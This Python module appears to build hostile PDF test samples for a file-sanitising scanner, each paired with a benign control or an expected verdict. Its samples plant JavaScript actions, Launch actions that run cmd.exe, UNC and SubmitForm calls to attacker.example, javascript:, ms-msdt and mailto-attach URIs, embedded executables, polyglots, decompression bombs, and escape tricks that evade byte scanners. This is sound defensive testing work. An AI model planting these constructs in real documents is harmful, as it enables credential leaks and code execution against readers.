"""Hostile PDFs, from ISO 32000-1 (PDF 1.7) and public PDF attack write-ups.

The benign base is a LibreOffice-written report (tests/pdf_builders.py); attacks are
planted with pikepdf, or written byte by byte where pikepdf would normalise the trick away
(name escapes, string escapes, incremental updates, trailing data).
"""

from __future__ import annotations

import io
import warnings
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests import builders as base
from tests import pdf_builders
from tests.attacks.builders import Expect, sample

JS = "app.alert('owned'); this.exportDataObject({cName: 'a.exe', nLaunch: 2});"


def _base(work: Path) -> bytes:
    return pdf_builders.libreoffice_report()


def _edit(work: Path, change: Callable[[pikepdf.Pdf], None], **save: object) -> bytes:
    with pikepdf.open(io.BytesIO(_base(work))) as pdf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pikepdf warns about widgets outside /AcroForm: that is the attack
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, **save)
    return out.getvalue()


def _js(pdf: pikepdf.Pdf, code: str = JS) -> Dictionary:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def _annotate(pdf: pikepdf.Pdf, annotation: Dictionary) -> None:
    page = pdf.pages[0].obj
    if Name.Annots not in page:
        page.Annots = Array()
    annotation.Type = Name.Annot
    if Name.Rect not in annotation:
        annotation.Rect = Array([72, 72, 300, 100])
    page.Annots.append(pdf.make_indirect(annotation))


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=action, Border=Array([0, 0, 0])))


# ---------------------------------------------------------------- controls
@sample("pdf_benign", ".pdf", "control", "LibreOffice-written report with an https link", Expect.RELEASED)
def pdf_benign(work: Path) -> bytes:
    return _base(work)


@sample(
    "pdf_goto_and_mailto",
    ".pdf",
    "control",
    "§12.6.4.2 GoTo and §12.6.4.7 mailto URI are plain navigation",
    Expect.RELEASED,
)
def pdf_goto_and_mailto(work: Path) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
        _link(pdf, Dictionary(S=Name.URI, URI=String("mailto:soumu@town.example.lg.jp")))

    return _edit(work, change)


# ---------------------------------------------------------------- JavaScript, everywhere it runs
Change = Callable[[pikepdf.Pdf], None]


def _change_sample(name: str, attack: str, source: str) -> Callable[[Change], Change]:
    def register(change: Change) -> Change:
        @sample(name, ".pdf", attack, source)
        def build(work: Path) -> bytes:
            return _edit(work, change)

        return change

    return register


@_change_sample(
    "pdf_openaction_js", "javascript", "§12.6.4.16 JavaScript action as the catalog's /OpenAction (§7.7.2)"
)
def _openaction(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _js(pdf)


@_change_sample(
    "pdf_names_javascript", "javascript", "§7.7.4 Names /JavaScript name tree: document-level scripts"
)
def _names_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _js(pdf)])))


@_change_sample(
    "pdf_catalog_aa", "javascript", "§12.6.3 Table 197: document /AA WillClose (WC), WillPrint (WP)"
)
def _catalog_aa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=_js(pdf), WP=_js(pdf))


@_change_sample("pdf_page_aa", "javascript", "§12.6.3 Table 195: page /AA open (O) and close (C)")
def _page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_js(pdf), C=_js(pdf))


@_change_sample("pdf_annotation_aa", "javascript", "§12.6.3 Table 194: annotation /AA mouse enter (E)")
def _annotation_aa(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, Dictionary(Subtype=Name.Square, AA=Dictionary(E=_js(pdf), PO=_js(pdf))))


@_change_sample(
    "pdf_field_aa", "javascript", "§12.7.3 form field with /AA keystroke (K) and calculate (C) scripts"
)
def _field_aa(pdf: pikepdf.Pdf) -> None:
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("山田"),
            Rect=Array([72, 600, 300, 620]),
            P=pdf.pages[0].obj,
            AA=Dictionary(K=_js(pdf), C=_js(pdf), F=_js(pdf)),
        )
    )
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), CO=Array([widget]), NeedAppearances=True)


@_change_sample("pdf_outline_js", "javascript", "§12.3.3 outline item with a JavaScript /A")
def _outline_js(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("目次"), A=_js(pdf)))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


@_change_sample(
    "pdf_next_chain_js", "javascript", "§12.6.2 /Next: a GoTo whose follow-up action is JavaScript"
)
def _next_chain(pdf: pikepdf.Pdf) -> None:
    _link(
        pdf,
        Dictionary(
            S=Name.GoTo,
            D=Array([pdf.pages[0].obj, Name.Fit]),
            Next=Array([Dictionary(S=Name.JavaScript, JS=String(JS))]),
        ),
    )


@_change_sample(
    "pdf_js_in_object_stream", "javascript", "§7.5.7 object streams hide the action from byte scanners"
)
def _js_objstm(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _js(pdf)


@sample("pdf_js_object_stream_saved", ".pdf", "javascript", "§7.5.7 object streams (pikepdf generate mode)")
def pdf_js_object_stream_saved(work: Path) -> bytes:
    return _edit(work, _js_objstm, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@_change_sample("pdf_js_as_stream", "javascript", "§12.6.4.16: /JS may be a stream (compressed)")
def _js_stream(pdf: pikepdf.Pdf) -> None:
    code = pikepdf.Stream(pdf, zlib.compress(JS.encode()))
    code.Filter = Name.FlateDecode
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=code))


# ---------------------------------------------------------------- other actions
@_change_sample("pdf_launch", "launch", "§12.6.4.5 Launch action with /Win parameters (Didier Stevens 2010)")
def _launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe")), NewWindow=True
    )


@_change_sample("pdf_launch_in_link", "launch", "§12.6.4.5 Launch on a link annotation")
def _launch_link(pdf: pikepdf.Pdf) -> None:
    _link(pdf, Dictionary(S=Name.Launch, F=String("\\\\attacker.example\\share\\a.exe")))


@_change_sample("pdf_gotor_unc", "remote-action", "§12.6.4.3 GoToR to a UNC file (NTLM leak, 2018 write-ups)")
def _gotor(pdf: pikepdf.Pdf) -> None:
    _link(
        pdf, Dictionary(S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit]))
    )


@_change_sample("pdf_gotoe_embedded", "remote-action", "§12.6.4.4 GoToE into an embedded PDF")
def _gotoe(pdf: pikepdf.Pdf) -> None:
    _embed(pdf, "inner.pdf", b"%PDF-1.7\n%%EOF\n")
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToE, T=Dictionary(R=Name.C, N=String("inner.pdf")), D=Array([0, Name.Fit])
    )


@_change_sample("pdf_submitform", "remote-action", "§12.7.5.2 SubmitForm sending the form to a URL")
def _submit(pdf: pikepdf.Pdf) -> None:
    _link(
        pdf,
        Dictionary(
            S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://attacker.example/c")), Flags=4
        ),
    )


@_change_sample("pdf_importdata", "remote-action", "§12.7.5.4 ImportData from a file")
def _import(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.ImportData, F=String("\\\\attacker.example\\share\\d.fdf"))


@_change_sample("pdf_rendition_js", "javascript", "§12.6.4.13 Rendition action carrying /JS")
def _rendition(pdf: pikepdf.Pdf) -> None:
    _link(pdf, Dictionary(S=Name.Rendition, OP=0, JS=String(JS)))


def _uri_sample(name: str, uri: bytes, source: str) -> None:
    @_change_sample(name, "uri-scheme", source)
    def change(pdf: pikepdf.Pdf) -> None:
        _link(pdf, Dictionary(S=Name.URI, URI=String(uri)))


_uri_sample("pdf_uri_javascript", b"javascript:app.alert(1)", "§12.6.4.7 URI action with a javascript: URI")
_uri_sample(
    "pdf_uri_javascript_mixed_case", b"JaVaScRiPt:app.alert(1)", "RFC 3986 §3.1: schemes are case-insensitive"
)
_uri_sample(
    "pdf_uri_javascript_spaces",
    b"  \tjava\nscript:app.alert(1)",
    "WHATWG URL: leading C0/space and tab/newline stripped",
)
_uri_sample("pdf_uri_file", b"file:///C:/Windows/System32/calc.exe", "§12.6.4.7 URI to file:")
_uri_sample("pdf_uri_unc", b"\\\\attacker.example\\share\\a.exe", "URI that is a UNC path")
_uri_sample(
    "pdf_uri_msmsdt", b"ms-msdt:/id PCWDiagnostic /skip force", "Follina CVE-2022-30190 scheme in a PDF link"
)


@_change_sample("pdf_uri_base_javascript", "uri-scheme", "§12.6.4.7 Table 207: catalog /URI /Base")
def _uri_base(pdf: pikepdf.Pdf) -> None:
    pdf.Root.URI = Dictionary(Base=String("javascript:app.alert(1)//"))
    _link(pdf, Dictionary(S=Name.URI, URI=String("x")))


# ---------------------------------------------------------------- actions nested as direct objects
@_change_sample(
    "pdf_action_in_extgstate", "nested-action", "issue #8 §1: action dict nested in an ExtGState (§8.4.5)"
)
def _in_extgstate(pdf: pikepdf.Pdf) -> None:
    resources = pdf.pages[0].obj.Resources
    resources.ExtGState = Dictionary(
        GSx=Dictionary(
            Type=Name.ExtGState, CA=1, AA=Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(JS)))
        )
    )


@_change_sample("pdf_action_in_font", "nested-action", "action dict inside a direct font dictionary (§9.6)")
def _in_font(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Resources.Font = Dictionary(
        FAtk=Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name.Helvetica,
            A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
        )
    )


@_change_sample("pdf_action_in_resources", "nested-action", "action dict directly inside /Resources (§7.8.3)")
def _in_resources(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Resources.OpenAction = Dictionary(S=Name.JavaScript, JS=String(JS))


@_change_sample(
    "pdf_action_direct_annotation", "nested-action", "annotation held directly in /Annots with its /A"
)
def _direct_annotation(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 50, 50]),
                A=Dictionary(S=Name.JavaScript, JS=String(JS)),
            )
        ]
    )


# ---------------------------------------------------------------- embedded content
def _embed(pdf: pikepdf.Pdf, name: str, data: bytes) -> Dictionary:
    stream = pikepdf.Stream(pdf, data)
    stream.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String(name), spec])))
    return spec


@_change_sample("pdf_embedded_exe", "embedded-file", "§7.11.4 embedded file stream (EmbeddedFiles name tree)")
def _embedded(pdf: pikepdf.Pdf) -> None:
    _embed(pdf, "invoice.exe", b"MZ\x90\x00" + b"\x00" * 64)


@_change_sample("pdf_file_attachment_annotation", "embedded-file", "§12.5.6.15 FileAttachment annotation")
def _attachment(pdf: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(pdf, b"@echo off\r\ncalc.exe\r\n")
    stream.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("readme.bat"), EF=Dictionary(F=stream))
    _annotate(pdf, Dictionary(Subtype=Name.FileAttachment, FS=spec, Name=Name.PushPin))


@_change_sample(
    "pdf_richmedia", "rich-media", "Adobe Supplement to ISO 32000 ext. level 3 §9.6 RichMedia (Flash)"
)
def _richmedia(pdf: pikepdf.Pdf) -> None:
    flash = pikepdf.Stream(pdf, b"FWS\x0a" + b"\x00" * 32)
    asset = Dictionary(Type=Name.Filespec, F=String("a.swf"), EF=Dictionary(F=flash))
    content = Dictionary(
        Assets=Dictionary(Names=Array([String("a.swf"), asset])),
        Configurations=Array([Dictionary(Subtype=Name.Flash)]),
    )
    _annotate(pdf, Dictionary(Subtype=Name.RichMedia, RichMediaContent=content))


@_change_sample("pdf_3d_annotation", "rich-media", "§13.6 3D annotation with a U3D stream and JavaScript")
def _three_d(pdf: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(pdf, b"U3D\x00" + b"\x00" * 32)
    stream.Type = Name("/3D")
    stream.Subtype = Name.U3D
    stream.OnInstantiate = pikepdf.Stream(pdf, JS.encode())
    _annotate(pdf, Dictionary({"/Subtype": Name("/3D"), "/3DD": stream}))


@_change_sample("pdf_xfa_form", "forms", "XFA 3.3 forms in AcroForm /XFA (script-capable)")
def _xfa(pdf: pikepdf.Pdf) -> None:
    xfa = pikepdf.Stream(
        pdf,
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script>'
        b"</template></xdp:xdp>",
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    pdf.Root.NeedsRendering = True


@_change_sample("pdf_postscript_xobject", "rich-media", "§8.8.2 PostScript XObject")
def _ps_xobject(pdf: pikepdf.Pdf) -> None:
    ps = pikepdf.Stream(pdf, b"(owned) print")
    ps.Type = Name.XObject
    ps.Subtype = Name.PS
    pdf.pages[0].obj.Resources.XObject = Dictionary(PS0=ps)


# ---------------------------------------------------------------- byte-level tricks
def _raw_pdf(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """A classic-xref PDF written by hand, so that escapes stay exactly as planted."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, trailer_extra, xref)
    )
    return out.getvalue()


def _page_objects(catalog_extra: bytes, annotation: bytes = b"") -> list[bytes]:
    content = b"BT /F1 24 Tf 72 720 Td (Invoice) Tj ET"
    annots = b"/Annots [5 0 R]" if annotation else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 6 0 R >> >> " + annots + b" >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        annotation or b"null",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return objects


@sample(
    "pdf_name_hex_escapes", ".pdf", "javascript", "§7.3.5 #xx escapes in names: /J#61vaScript, /O#70enAction"
)
def pdf_name_hex_escapes(work: Path) -> bytes:
    return _raw_pdf(_page_objects(b"/O#70enAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"))


@sample(
    "pdf_uri_octal_escapes", ".pdf", "uri-scheme", "§7.3.4.2 string escapes: \\152avascript: is javascript:"
)
def pdf_uri_octal_escapes(work: Path) -> bytes:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI (\\152ava\\163cript:app.alert\\(1\\)) >> >>"
    return _raw_pdf(_page_objects(b"", link))


@sample("pdf_uri_hex_string", ".pdf", "uri-scheme", "§7.3.4.3 hexadecimal string holding javascript:")
def pdf_uri_hex_string(work: Path) -> bytes:
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI <"
        + b"javascript:app.alert(1)".hex().encode()
        + b"> >> >>"
    )
    return _raw_pdf(_page_objects(b"", link))


def _append_revision(original: bytes, objects: dict[int, bytes], size: int) -> bytes:
    """§7.5.6: new object bodies, an xref section for just them, a trailer pointing back with /Prev."""
    xref = original.rindex(b"startxref")
    previous = int(original[xref + 10 :].split()[0])
    update = io.BytesIO()
    update.write(original)
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = update.tell()
        update.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    new_xref = update.tell()
    update.write(b"xref\n0 1\n0000000000 65535 f \n")
    for number, offset in sorted(offsets.items()):
        update.write(b"%d 1\n%010d 00000 n \n" % (number, offset))
    update.write(
        b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, new_xref)
    )
    return update.getvalue()


@sample(
    "pdf_incremental_adds_js",
    ".pdf",
    "incremental-update",
    "§7.5.6 incremental update adding OpenAction JS to a clean file",
)
def pdf_incremental_adds_js(work: Path) -> bytes:
    return _append_revision(
        _raw_pdf(_page_objects(b"")),
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
            7: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        },
        8,
    )


@sample(
    "pdf_shadowed_revision_js",
    ".pdf",
    "incremental-update",
    "§7.5.6: an older revision still carries JS bytes",
)
def pdf_shadowed_revision_js(work: Path) -> bytes:
    dirty = _raw_pdf(_page_objects(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"))
    return _append_revision(dirty, {1: b"<< /Type /Catalog /Pages 2 0 R >>"}, 7)


@sample(
    "pdf_data_after_eof",
    ".pdf",
    "trailing-data",
    "PDF/ZIP and PDF/HTML polyglots (Ange Albertini, PoC||GTFO)",
)
def pdf_data_after_eof(work: Path) -> bytes:
    from tests.attacks.builders.archive import zip_of

    return _base(work) + b"\n<html><script>alert(1)</script></html>\n" + zip_of({"run.bat": b"calc.exe\r\n"})


@sample(
    "pdf_flate_bomb",
    ".pdf",
    "bomb",
    "issue #8 §1: a content stream that inflates to 600 MiB (§7.4.4 FlateDecode)",
)
def pdf_flate_bomb(work: Path) -> bytes:
    packed = base.zlib_repeated(b"0 0 m\n" * (1 << 16), 1600)

    def change(pdf: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(pdf, packed)
        stream.Filter = Name.FlateDecode
        pdf.pages[0].obj.Contents = stream

    with pikepdf.open(io.BytesIO(_raw_pdf(_page_objects(b"")))) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


# ---------------------------------------------------------------- second round
@_change_sample("pdf_names_tree_kids_js", "javascript", "§7.9.6 name trees: scripts under /Kids, not /Names")
def _names_kids(pdf: pikepdf.Pdf) -> None:
    leaf = pdf.make_indirect(
        Dictionary(Names=Array([String("a"), _js(pdf)]), Limits=Array([String("a"), String("a")]))
    )
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([leaf])))


@_change_sample(
    "pdf_aa_on_pages_node", "javascript", "§7.7.3.2: /AA planted on the page tree node (some viewers inherit)"
)
def _pages_aa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.AA = Dictionary(O=_js(pdf))


@_change_sample(
    "pdf_uri_action_with_js_key",
    "javascript",
    "§12.6.4.7 URI action with an extra /JS and /Next riding along",
)
def _uri_extra(pdf: pikepdf.Pdf) -> None:
    _link(
        pdf,
        Dictionary(
            S=Name.URI,
            URI=String("https://www.city.example.lg.jp/"),
            JS=String(JS),
            Next=Dictionary(S=Name.JavaScript, JS=String(JS)),
        ),
    )


@_change_sample("pdf_orphan_widget_aa", "javascript", "§12.5.6.19 Widget annotation with /AA but no AcroForm")
def _orphan_widget(pdf: pikepdf.Pdf) -> None:
    _annotate(
        pdf,
        Dictionary(
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("b"),
            AA=Dictionary(U=_js(pdf)),
            A=Dictionary(S=Name.JavaScript, JS=String(JS)),
        ),
    )


@_change_sample(
    "pdf_uri_utf16_javascript", "uri-scheme", "§7.9.2.2 text string in UTF-16BE with BOM spelling javascript:"
)
def _uri_utf16(pdf: pikepdf.Pdf) -> None:
    _link(
        pdf, Dictionary(S=Name.URI, URI=String(b"\xfe\xff" + "javascript:app.alert(1)".encode("utf-16-be")))
    )


@sample(
    "pdf_encrypted_owner_js",
    ".pdf",
    "javascript",
    "§7.6.3 standard security handler, empty user password, OpenAction JS",
)
def pdf_encrypted_owner_js(work: Path) -> bytes:
    return _edit(work, _openaction, encryption=pikepdf.Encryption(owner="owner-secret", user="", R=4))


@sample(
    "pdf_deep_nesting",
    ".pdf",
    "bomb",
    "parser recursion: 20000 nested arrays (qpdf/pdf.js stack exhaustion reports)",
)
def pdf_deep_nesting(work: Path) -> bytes:
    return _raw_pdf(_page_objects(b"/Deep " + b"[" * 20000 + b"]" * 20000))


def _bomb_stream(pdf: pikepdf.Pdf, layers: int, megabytes: int) -> pikepdf.Stream:
    packed = base.zlib_repeated(b"0 0 m\n" * (1 << 17), megabytes * 4 // 3)
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)
    stream = pikepdf.Stream(pdf, packed)
    stream.Filter = Array([Name.FlateDecode] * layers) if layers > 1 else Name.FlateDecode
    return stream


def _save_raw(change: Change) -> bytes:
    with pikepdf.open(io.BytesIO(_raw_pdf(_page_objects(b"")))) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


@sample(
    "pdf_double_flate_bomb",
    ".pdf",
    "bomb",
    "§7.4 filter arrays: [/FlateDecode /FlateDecode] hides a 600 MiB page in ~1 KB",
)
def pdf_double_flate_bomb(work: Path) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Contents = _bomb_stream(pdf, 2, 600)

    return _save_raw(change)


@sample("pdf_form_xobject_bomb", ".pdf", "bomb", "§8.10 form XObject whose stream inflates to 600 MiB")
def pdf_form_xobject_bomb(work: Path) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        form = _bomb_stream(pdf, 1, 600)
        form.Type = Name.XObject
        form.Subtype = Name.Form
        form.BBox = Array([0, 0, 100, 100])
        pdf.pages[0].obj.Resources.XObject = Dictionary(Fm0=form)
        pdf.pages[0].obj.Contents = pikepdf.Stream(pdf, b"/Fm0 Do")

    return _save_raw(change)


@sample(
    "pdf_html_prefix_polyglot",
    ".pdf",
    "polyglot",
    "PDF/HTML polyglot: %PDF within the first 1024 bytes (§7.5.2 implementation note)",
)
def pdf_html_prefix_polyglot(work: Path) -> bytes:
    return b"<html><script>alert(document.domain)</script><!--\n" + _raw_pdf(_page_objects(b"")) + b"-->"


# ---------------------------------------------------------------- third round
_uri_sample(
    "pdf_uri_mailto_attach",
    b"mailto:soumu@town.example.lg.jp?attach=/etc/passwd",
    "'Mailto: Me Your Secrets' (NDSS 2021): mailto with attach=",
)


@_change_sample(
    "pdf_action_in_appearance_stream",
    "nested-action",
    "§12.5.5 appearance stream whose resources hold an action",
)
def _in_appearance(pdf: pikepdf.Pdf) -> None:
    appearance = pikepdf.Stream(pdf, b"0 0 1 rg 0 0 50 50 re f")
    appearance.Type = Name.XObject
    appearance.Subtype = Name.Form
    appearance.BBox = Array([0, 0, 50, 50])
    appearance.Resources = Dictionary(
        ExtGState=Dictionary(G0=Dictionary(A=Dictionary(S=Name.JavaScript, JS=String(JS))))
    )
    _annotate(pdf, Dictionary(Subtype=Name.Square, AP=Dictionary(N=appearance)))


@_change_sample(
    "pdf_names_templates",
    "javascript",
    "§12.7.6 /Names /Templates: hidden pages a script can spawn, with /AA",
)
def _templates(pdf: pikepdf.Pdf) -> None:
    hidden = pdf.make_indirect(
        Dictionary(
            Type=Name.Template,
            MediaBox=Array([0, 0, 612, 792]),
            AA=Dictionary(O=_js(pdf)),
            Resources=Dictionary(),
        )
    )
    pdf.Root.Names = Dictionary(Templates=Dictionary(Names=Array([String("t1"), hidden])))


@_change_sample(
    "pdf_named_action_print", "remote-action", "§12.6.4.11 Named action (a viewer menu command) on open"
)
def _named(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Named, N=Name.Print)


# ---------------------------------------------------------------- fifth round: indirection
@sample(
    "pdf_indirect_action_type",
    ".pdf",
    "javascript",
    "§7.3.10: /S given as an indirect reference to the name /JavaScript",
)
def pdf_indirect_action_type(work: Path) -> bytes:
    objects = _page_objects(b"/OpenAction 7 0 R")
    objects.append(b"<< /S 8 0 R /JS 9 0 R >>")
    objects.append(b"/JavaScript")
    objects.append(b"(app.alert\\(1\\))")
    return _raw_pdf(objects)


@sample(
    "pdf_uri_as_name",
    ".pdf",
    "uri-scheme",
    "§12.6.4.7 expects a string; a name object spelling javascript: instead",
)
def pdf_uri_as_name(work: Path) -> bytes:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI /javascript:app.alert#281#29 >> >>"
    return _raw_pdf(_page_objects(b"", link))


# ---------------------------------------------------------------- findings of the fuzzer, kept as samples
@sample(
    "pdf_non_utf8_key_name",
    ".pdf",
    "appliance-crash",
    "fuzz finding (pdf m0015, one bit): §7.3.5 names are bytes; /B\\xe1seFont is not UTF-8",
)
def pdf_non_utf8_key_name(work: Path) -> bytes:
    objects = _page_objects(b"")
    objects[5] = b"<< /Type /Font /Subtype /Type1 /B\xe1seFont /Helvetica >>"
    return _raw_pdf(objects)


@sample(
    "pdf_aa_in_font_resources",
    ".pdf",
    "fuzz-finding",
    "fuzz finding (pdf m0025): /AA with a Launch action spliced into a page's /Font resource dictionary",
)
def pdf_aa_in_font_resources(work: Path) -> bytes:
    objects = _page_objects(b"")
    objects[2] = objects[2].replace(
        b"/Font << /F1 6 0 R >>", b"/Font << /AA << /O << /S /Launch /F (cmd.exe) >> >> /F1 6 0 R >>"
    )
    return _raw_pdf(objects)


@_change_sample(
    "pdf_garbage_icc_colorspace",
    "icc",
    "§8.6.5.5 ICCBased colour space whose profile is not ICC (lcms2 CVE-2018-16435 class)",
)
def _garbage_icc(pdf: pikepdf.Pdf) -> None:
    profile = pikepdf.Stream(pdf, b"\x00\x00\x10\x00" + b"<script>" * 500)
    profile.N = 3
    pdf.pages[0].obj.Resources.ColorSpace = Dictionary(CSx=Array([Name.ICCBased, profile]))
    pdf.pages[0].obj.Contents = pikepdf.Stream(
        pdf,
        b"/CSx cs 1 0 0 sc 0 0 100 100 re f " + pdf.pages[0].obj.Contents.read_bytes()
        if isinstance(pdf.pages[0].obj.Contents, pikepdf.Stream)
        else b"/CSx cs 1 0 0 sc 0 0 100 100 re f",
    )


@_change_sample(
    "pdf_output_intent_oversized_icc", "icc", "§14.11.5 OutputIntent DestOutputProfile: 6 MiB profile"
)
def _oversized_intent(pdf: pikepdf.Pdf) -> None:
    from tests.attacks.builders.images import _icc_header

    size = 6 << 20
    profile = pikepdf.Stream(pdf, zlib.compress(_icc_header(size) + b"\x00" * (size - 132)))
    profile.Filter = Name.FlateDecode
    profile.N = 3
    pdf.Root.OutputIntents = Array(
        [
            Dictionary(
                Type=Name.OutputIntent,
                S=Name.GTS_PDFA1,
                DestOutputProfile=profile,
                OutputConditionIdentifier=String("sRGB"),
            )
        ]
    )


@_change_sample(
    "pdf_garbage_font_program",
    "embedded-font",
    "§9.9 FontFile2 that is not TrueType (FreeType CVE-2020-15999 class: font parsers are an exploit surface)",
)
def _garbage_font(pdf: pikepdf.Pdf) -> None:
    program = pikepdf.Stream(pdf, b"<script>" * 200)
    descriptor = Dictionary(
        Type=Name.FontDescriptor,
        FontName=Name.Evil,
        Flags=32,
        FontBBox=Array([0, 0, 1000, 1000]),
        ItalicAngle=0,
        Ascent=800,
        Descent=-200,
        CapHeight=700,
        StemV=80,
        FontFile2=program,
    )
    font = Dictionary(
        Type=Name.Font,
        Subtype=Name.TrueType,
        BaseFont=Name.Evil,
        FirstChar=32,
        LastChar=32,
        Widths=Array([500]),
        FontDescriptor=descriptor,
    )
    pdf.pages[0].obj.Resources.Font.FEvil = pdf.make_indirect(font)


@_change_sample(
    "pdf_garbage_jpx_image",
    "codec-payload",
    "§8.9.5 image XObject whose JPXDecode data is not JPEG 2000 (OpenJPEG CVE class)",
)
def _garbage_jpx(pdf: pikepdf.Pdf) -> None:
    image = pikepdf.Stream(pdf, b"MZ\x90\x00" + b"<script>" * 100)
    image.Type = Name.XObject
    image.Subtype = Name.Image
    image.Width, image.Height, image.BitsPerComponent = 8, 8, 8
    image.ColorSpace = Name.DeviceRGB
    image.Filter = Name.JPXDecode
    pdf.pages[0].obj.Resources.XObject = Dictionary(ImX=image)
    pdf.pages[0].obj.Contents = pikepdf.Stream(pdf, b"q 50 0 0 50 0 0 cm /ImX Do Q")


@_change_sample(
    "pdf_inline_image_garbage_dct",
    "codec-payload",
    "§8.9.7 inline image (BI … ID … EI) whose DCT data is not a JPEG: it travels inside the content stream",
)
def _inline_garbage(pdf: pikepdf.Pdf) -> None:
    inline = b"q 40 0 0 40 0 0 cm BI /W 8 /H 8 /CS /RGB /BPC 8 /F /DCT ID MZ<script>x</script> EI Q\n"
    pdf.pages[0].obj.Contents = pikepdf.Stream(pdf, inline)
